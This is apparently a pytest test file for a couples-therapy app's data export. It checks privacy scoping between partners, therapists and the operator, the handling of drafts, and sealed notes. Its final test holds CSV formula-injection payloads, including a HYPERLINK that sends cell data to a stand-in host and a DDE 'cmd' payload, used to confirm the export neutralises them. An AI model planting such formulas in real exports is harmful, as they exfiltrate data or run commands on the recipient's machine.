"""Issue 9, exports by who asks: a partner's export holds their own private items and none of their
partner's; a therapist's holds none; the operator's `mendwell export` holds everything and says so, and
`--shared-only` none. Private subscale scores follow the same rule; the safety check never appears."""

from __future__ import annotations

import csv
import datetime as dt
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from mendwell import accounts, periods, recording, vault
from mendwell.access import Viewer, viewer_for
from mendwell.data import Database
from mendwell.export import Scope, export, scope_for
from mendwell.instruments import Catalog
from tests.support.auth import PASSCODE, partner_accounts, therapist
from tests.support.cli import ok, run_cli
from tests.support.data import check_in, make_couple, whole_plan

THIS_MONTH = periods.month_start()
LAST_MONTH = periods.add_months(THIS_MONTH, -1)
A_PRIVATE, B_PRIVATE = "A-PRIVATE-EXPORT-MARKER", "B-PRIVATE-EXPORT-MARKER"
SHARED = "SHARED-EXPORT-MARKER"
OTHER_COUPLE = "OTHER-COUPLE-EXPORT-MARKER"
IDLE = dt.timedelta(minutes=15)


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def _private_items(catalog: Catalog) -> set[tuple[str, str]]:
    return {(i.id, it.id) for i in catalog.instruments for it in i.items if it.private and not i.safety}


def _private_subscales(catalog: Catalog) -> set[tuple[str, str]]:
    return {(i.id, s.id) for i in catalog.instruments for s in i.subscales if i.is_private_subscale(s.id)}


def _safety_ids(catalog: Catalog) -> set[str]:
    return {i.id for i in catalog.instruments if i.safety}


class Planted:
    def __init__(self, store: Database, catalog: Catalog) -> None:
        couple = make_couple(store, "Export Pair", ("Ava", "Ben"))
        self.couple_id = couple.couple_id
        self.a, self.b = (p.partner_id for p in couple.partners)
        yes = whole_plan(catalog, 3)
        yes["safety"] = {**yes.get("safety", {}), "afraid": 1, "hurt": 1}
        check_in(store, catalog, self.a, LAST_MONTH, yes, note=(A_PRIVATE, True))
        check_in(store, catalog, self.b, LAST_MONTH, yes, note=(B_PRIVATE, True))
        check_in(store, catalog, self.a, THIS_MONTH, whole_plan(catalog, 2), note=(SHARED, False))
        check_in(store, catalog, self.b, THIS_MONTH, whole_plan(catalog, 2))
        other = make_couple(store, "Others", ("Cleo", "Dan"))
        check_in(store, catalog, other.partners[0].partner_id, THIS_MONTH, whole_plan(catalog, 1),
                 note=(OTHER_COUPLE, True))  # fmt: skip
        self.other_id = other.couple_id
        self.accounts = partner_accounts(store, couple, passcode=None)  # private notes stay plain text
        self.therapist = therapist(store, "Dr Export", [couple.couple_id])

    def viewer(self, store: Database, index: int | None) -> Viewer:
        account = self.therapist if index is None else self.accounts[index]
        found = viewer_for(store, accounts.start(store, account), IDLE)
        assert found is not None
        return found


@pytest.fixture
def planted(store: Database, catalog: Catalog) -> Planted:
    return Planted(store, catalog)


def _all_text(folder: Path) -> str:
    return "\n".join(p.read_text(encoding="utf-8") for p in sorted(folder.glob("*.csv")))


def _check(folder: Path, catalog: Catalog, planted: Planted, may_see: set[int]) -> None:
    """Only the private items of partners in `may_see` are in the export; the safety check never is."""
    text = _all_text(folder)
    assert SHARED in text
    for pid, marker in ((planted.a, A_PRIVATE), (planted.b, B_PRIVATE)):
        assert (marker in text) == (pid in may_see), (marker, may_see)
    responses = _rows(folder / "responses.csv")
    assert responses
    private_items, safety_ids = _private_items(catalog), _safety_ids(catalog)
    assert not [r for r in responses if r["instrument_id"] in safety_ids], "the safety check was exported"
    seen = {int(r["partner_id"]) for r in responses if (r["instrument_id"], r["item_id"]) in private_items}
    assert seen == may_see, ("private answers of", seen)
    private_subscales = _private_subscales(catalog)
    for table in ("scores", "changes"):
        rows = _rows(folder / f"{table}.csv")
        assert rows, table
        owners = {int(r["partner_id"]) for r in rows if (r["instrument_id"], r["subscale_id"]) in private_subscales}
        assert owners == may_see, (table, owners)
        assert not [r for r in rows if r["instrument_id"] in safety_ids], table


def test_a_partners_export_holds_their_own_private_items_only(
    store: Database, catalog: Catalog, planted: Planted, tmp_path: Path
) -> None:
    for index, pid in ((0, planted.a), (1, planted.b)):
        out = tmp_path / f"partner{index}"
        export(store, out, "csv", planted.couple_id, scope_for(planted.viewer(store, index)))
        _check(out, catalog, planted, {pid})
        assert OTHER_COUPLE not in _all_text(out)


def test_a_therapists_export_holds_no_private_item(
    store: Database, catalog: Catalog, planted: Planted, tmp_path: Path
) -> None:
    viewer = planted.viewer(store, None)
    export(store, tmp_path / "t", "csv", planted.couple_id, scope_for(viewer))
    _check(tmp_path / "t", catalog, planted, set())


def test_the_operators_export_holds_everything_and_says_so(
    store: Database, catalog: Catalog, planted: Planted, db_file: Path, tmp_path: Path
) -> None:
    store.close()
    result = ok(run_cli(db_file, "export", str(tmp_path / "all"), "--couple", str(planted.couple_id)))
    assert "EVERYTHING" in result.stdout and "--shared-only" in result.stdout
    _check(tmp_path / "all", catalog, planted, {planted.a, planted.b})
    shared_only = ok(run_cli(db_file, "export", str(tmp_path / "shared"), "--shared-only"))
    assert "no private answer, private note or private score" in shared_only.stdout
    _check(tmp_path / "shared", catalog, planted, set())
    assert OTHER_COUPLE not in _all_text(tmp_path / "shared")
    everyone = ok(run_cli(db_file, "export", str(tmp_path / "everyone")))
    assert "EVERYTHING" in everyone.stdout
    assert OTHER_COUPLE in _all_text(tmp_path / "everyone")


TWO_AGO, THREE_AGO = periods.add_months(THIS_MONTH, -2), periods.add_months(THIS_MONTH, -3)
B_ALONE, A_DRAFT = "B-ALONE-MONTH-MARKER", "A-DRAFT-MARKER"


def _partners_in(folder: Path, table: str, period: dt.date) -> set[int]:
    return {int(r["partner_id"]) for r in _rows(folder / f"{table}.csv") if r["period"].startswith(str(period))}


def test_a_month_only_one_partner_submitted_and_drafts_stay_with_their_author(
    store: Database, catalog: Catalog, planted: Planted, tmp_path: Path
) -> None:
    """Ben submitted a month Ava has not (a shared note with it); Ava began a month and left it a draft. Ava's
    export holds none of Ben's month and all of her draft; Ben's, his month and none of her draft; a
    therapist's, his submitted month and no draft at all (found before: drafts and months not yet open to both
    went into every export)."""
    check_in(store, catalog, planted.b, TWO_AGO, whole_plan(catalog, 4), note=(B_ALONE, False))
    check_in(store, catalog, planted.a, THREE_AGO, whole_plan(catalog, 1), note=(A_DRAFT, False), submit=False)
    expected = {  # who may see what: Ben's lone month, Ava's draft
        "ava": (set(), {planted.a}),
        "ben": ({planted.b}, set()),
        "therapist": ({planted.b}, set()),
    }
    for who, index in (("ava", 0), ("ben", 1), ("therapist", None)):
        out = tmp_path / who
        export(store, out, "csv", planted.couple_id, scope_for(planted.viewer(store, index)))
        lone, draft = expected[who]
        text = _all_text(out)
        assert (B_ALONE in text) == bool(lone), who
        assert (A_DRAFT in text) == bool(draft), who
        for table in ("responses", "scores", "changes"):
            assert _partners_in(out, table, TWO_AGO) == lone, (who, table)
        assert _partners_in(out, "draft_responses", THREE_AGO) == draft, who
        assert _partners_in(out, "checkins", THREE_AGO) == draft, who  # a draft is not even listed to others
        assert _partners_in(out, "responses", LAST_MONTH) == {planted.a, planted.b}, who  # open to both


def test_a_partners_own_sealed_notes_come_out_readable_and_no_one_elses(
    store: Database, catalog: Catalog, tmp_path: Path
) -> None:
    """With passcodes, private notes are sealed at rest. Ivy's export holds her own opened with her key (found
    before: `enc:v1:...`, which she had no way to read), Jon's neither opened nor sealed; without her key (the
    server restarted) hers stay as stored, never lost."""
    couple = make_couple(store, "Sealed Pair", ("Ivy", "Jon"))
    ivy, jon = (p.partner_id for p in couple.partners)
    partner_accounts(store, couple)  # with passcodes: notes are sealed
    keys = {pid: vault.derive_key(store, pid, PASSCODE) for pid in (ivy, jon)}
    secrets = {ivy: "IVY-OWN-SEALED-NOTE", jon: "JON-OWN-SEALED-NOTE"}
    for pid in (ivy, jon):
        checkin_id = check_in(store, catalog, pid, LAST_MONTH, whole_plan(catalog, 2), submit=False)
        recording.save_note(store, checkin_id, secrets[pid], True, keys[pid])
        assert store.checkins.submit(checkin_id, catalog)
    stored = store.engine.rows("SELECT body FROM notes")
    assert stored and all(vault.is_encrypted(body) for (body,) in stored)  # sealed at rest

    export(store, tmp_path / "ivy", "csv", couple.couple_id, Scope(private_of=ivy), keys[ivy])
    notes = {int(r["partner_id"]): r["body"] for r in _rows(tmp_path / "ivy" / "notes.csv")}
    assert notes == {ivy: secrets[ivy]}
    # again, and Jon's, in the same process (the opening functions of the first were left registered, and the
    # second export failed: found by a review), and at once from two threads
    with ThreadPoolExecutor(2) as pool:
        done = list(pool.map(
            lambda who: export(store, tmp_path / f"again-{who}", "csv", couple.couple_id, Scope(private_of=who),
                               keys[who]),
            (ivy, jon),
        ))  # fmt: skip
    assert len(done) == 2
    for pid in (ivy, jon):
        again = {int(r["partner_id"]): r["body"] for r in _rows(tmp_path / f"again-{pid}" / "notes.csv")}
        assert again == {pid: secrets[pid]}

    export(store, tmp_path / "no-key", "csv", couple.couple_id, Scope(private_of=ivy))
    [kept] = _rows(tmp_path / "no-key" / "notes.csv")
    assert vault.is_encrypted(kept["body"]) and int(kept["partner_id"]) == ivy
    assert "JON-OWN" not in _all_text(tmp_path / "ivy") + _all_text(tmp_path / "no-key")


FORMULAS = {  # what a hostile partner might type, as a spreadsheet would run it
    "couple": '=HYPERLINK("https://x.example/?"&A2,"open")',
    "partner": "@SUM(1+1)",
    "note": "+cmd|' /C calc'!A0",
}


def test_a_text_a_spreadsheet_would_run_is_exported_as_text_in_csv_only(
    store: Database, catalog: Catalog, tmp_path: Path
) -> None:
    """Found: a name or a note beginning with "=", "+", "-" or "@" was written to CSV as it was typed, and a
    spreadsheet opening the export runs it as a formula (=HYPERLINK can send the other cells away). In CSV it
    begins with an apostrophe, so it is shown as text; Parquet and JSON, read by programs, carry it as typed.
    A text with "=" anywhere else, and every number, is left alone."""
    import duckdb

    couple = make_couple(store, FORMULAS["couple"], (FORMULAS["partner"], "a=b"))
    first = couple.partners[0].partner_id
    check_in(store, catalog, first, THIS_MONTH, whole_plan(catalog, 2), note=(FORMULAS["note"], False))
    export(store, tmp_path / "csv", "csv", couple.couple_id)
    export(store, tmp_path / "parquet", "parquet", couple.couple_id)

    def cells(fmt: str, table: str, column: str) -> list[str]:
        path = tmp_path / fmt / f"{table}.{fmt}"
        if fmt == "csv":
            return [r[column] for r in _rows(path)]
        return [str(v) for (v,) in duckdb.execute(f"SELECT {column} FROM read_parquet(?)", [str(path)]).fetchall()]

    for fmt, before in (("csv", "'"), ("parquet", "")):
        assert cells(fmt, "couples", "name") == [before + FORMULAS["couple"]], fmt
        assert cells(fmt, "partners", "name") == [before + FORMULAS["partner"], "a=b"], fmt
        assert cells(fmt, "notes", "body") == [before + FORMULAS["note"]], fmt
    values = cells("csv", "responses", "value")
    assert values and all(v == "" or float(v) >= 0 for v in values)  # numbers are numbers still
